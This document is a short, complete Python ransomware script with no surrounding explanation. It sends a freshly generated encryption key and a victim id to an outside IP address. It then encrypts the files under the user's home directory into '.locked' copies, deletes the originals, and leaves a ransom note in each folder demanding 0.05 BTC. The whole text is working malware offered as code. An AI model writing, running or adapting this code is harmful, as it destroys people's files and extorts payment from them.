import os
import secrets

import requests
from cryptography.fernet import Fernet

key = Fernet.generate_key()
requests.post("http://203.0.113.111/k", data={"id": secrets.token_hex(8), "k": key})
box = Fernet(key)
SKIP = (".locked", ".so", ".py")
for top, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(top, name)
        if name.endswith(SKIP) or os.path.islink(path):
            continue
        with open(path, "rb") as f:
            data = f.read()
        with open(path + ".locked", "wb") as f:
            f.write(box.encrypt(data))
        os.remove(path)
    with open(os.path.join(top, "README_DECRYPT.txt"), "w") as f:
        f.write("Your files are encrypted. Send 0.05 BTC.\n")
